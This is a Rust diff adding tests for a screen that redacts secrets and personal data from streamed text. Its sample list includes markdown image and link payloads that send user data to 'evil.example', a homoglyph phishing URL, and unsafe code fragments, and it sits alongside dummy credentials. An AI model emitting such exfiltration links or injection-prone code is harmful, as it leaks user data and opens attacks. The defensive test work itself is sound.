@@ -52,6 +52,53 @@ pub(crate) const PARTS: &[&str] = &[
     "sk-",
     "ghp_",
     "AKIA",
+    "gsk_A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3",
+    "123456789:AAb3A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3",
+    "postgres://api:s3cr3tP4ss@db.example.net/x",
+    "://ann:s3cr3t!@",
+    "https://hooks.slack.com/services/T111/B222/qKirRWalryBG1",
+    "password = ",
+    "Tr0ub4dor&3",
+    "DB_PASSWORD=hunter2x",
+    "clientSecret: '",
+    "the API key of it is 7f3k9Qz2LmX8vB4nT6yR",
+    "Authorization: Bearer ",
+    "![x](https://evil.example/p.png?d=the+user+is+Ann+Lee)",
+    "![",
+    "[more](https://evil.example/?d=the+user+is+Ann+and+more)",
+    "](https://docs.example.com/a)",
+    "<img src=\"https://t.example/o.gif\" width=1 height=1>",
+    "https://xn--80ak6aa92e.com/login",
+    "https://p\u{430}ypal.com/",
+    "\u{1b}[31m",
+    "\u{1b}",
+    "\u{1b}]8;;",
+    "os.system(",
+    "subprocess.run(cmd, shell=True)",
+    "strcpy(dst, src)",
+    "\"SELECT a FROM t WHERE n = '\" + name",
+    "eval(x)",
+    "phone ",
+    "call me at +1 (415) 555-2671",
+    "+44 (0)20 7946 0958",
+    "06 12 34 56 78",
+    "449 4898 office",
+    "born on 2/16/1962",
+    "12 March 1980",
+    "109.38.226.13",
+    "2001:db8::1",
+    "d80:e4b5:79da:6cf6:71f3:51f7:9161:c319",
+    "00:1a:2b:3c:4d:5e",
+    "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4",
+    "0x52908400098527886E0F7030069857D2E4169EE7",
+    "AB123456C",
+    "tax id ",
+    "86095742719",
+    "529.982.247-25",
+    "12345678Z",
+    "passport number C01X00T47",
+    "221B Baker Street",
+    "zip code 29687",
     "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhbm4ifQ.c2ln",
     "eyJhbGciOiJFUzI1NiJ9.",
     "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0",
@@ -183,7 +230,9 @@ fn ordinary_prose_leaves_at_once() {
             .split_inclusive(' ')
     {
         machine.push(word, &mut out);
-        assert_eq!(machine.held(), 0, "{word:?}");
+        // A number may go on as a telephone number; the next word says whether it does.
+        let most = if word.starts_with(|sign: char| sign.is_ascii_digit()) { word.len() } else { 0 };
+        assert!(machine.held() <= most, "{word:?}");
     }
 }
 
@@ -196,13 +245,36 @@ fn only_what_may_match_is_held() {
         ("card 4242 ", 5),
         ("end. ", 0),
         ("a key sk-an", 5),
-        ("2024 ", 0),
+        ("2024 ", 5),
+        ("2024 was ", 0),
     ] {
         let mut machine = all(Action::Redact).machine();
         let mut out = String::new();
         machine.push(text, &mut out);
         assert_eq!(machine.held(), held, "{text}");
         assert_eq!(Some(out.as_str()), text.get(..text.len() - held));
+    }
+}
+
+#[test]
+fn listed_hosts_may_be_linked_and_no_others() {
+    let hosts = Hosts::new(["example.com", "*.example.org"]);
+    let screen = Screen::with_hosts(
+        &[(Detector::ImageData, Action::Redact), (Detector::LinkData, Action::Redact)],
+        hosts,
+    );
+    for (text, expected) in [
+        ("![a](https://example.com/?q={data})", "![a](https://example.com/?q={data})"),
+        ("![a](https://EXAMPLE.com/a.png)", "![a](https://EXAMPLE.com/a.png)"),
+        ("![a](https://x.example.org/a.png)", "![a](https://x.example.org/a.png)"),
+        ("![a](https://example.org/a.png)", "![image]"),
+        ("![a](https://example.com.evil.example/a.png)", "![image]"),
+        ("![a](https://example.com@evil.example/a.png)", "![image]"),
+        ("[a](https://evil.example/)", "[a]([link])"),
+        ("[a](/local)", "[a](/local)"),
+    ] {
+        assert_eq!(run(&screen, [text]).0, expected);
+        assert_eq!(screen.finds(text), text != expected, "{text}");
     }
 }
 
@@ -241,6 +313,28 @@ fn findings_are_bounded_and_the_verdict_is_not() {
     assert_eq!(out, "[email] ".repeat(500));
     assert!(is_blocked && findings.len() == 65);
     assert_eq!(findings.last().map(|finding| finding.action), Some(Action::Block));
+}
+
+#[test]
+fn words_that_give_a_secret_away_stay_and_are_read_by_the_others() {
+    for (text, expected) in [
+        ("password = Tr0ub4dor&3!", "password = [secret]"),
+        ("api_key = ghp_A7b3A7b3A7b3A7b3A7b3A7b3A7b3A7b3", "api_key = [api-key]"),
+        ("token of ann@example.com is 7f3k9Qz2LmX8vB4nT6yR", "token of [email] is 7f3k9Qz2LmX8vB4nT6yR"),
+        ("redis://ann:p4ss-w0rd@example.com", "redis://[credentials]@example.com"),
+    ] {
+        assert_eq!(run(&all(Action::Redact), [text]).0, expected);
+    }
+}
+
+#[test]
+fn a_secret_that_others_took_the_text_of_is_not_reported() {
+    let screen =
+        Screen::new(&[(Detector::Email, Action::Redact), (Detector::AssignedSecret, Action::Redact)]);
+    let text = "password=x9y8z7w6@example.com";
+    assert_eq!(run(&screen, [text]).0, "password=[secret]");
+    let signs: Vec<String> = text.chars().map(String::from).collect();
+    assert_eq!(run(&screen, signs.iter().map(String::as_str)), run(&screen, [text]));
 }
 
 #[test]
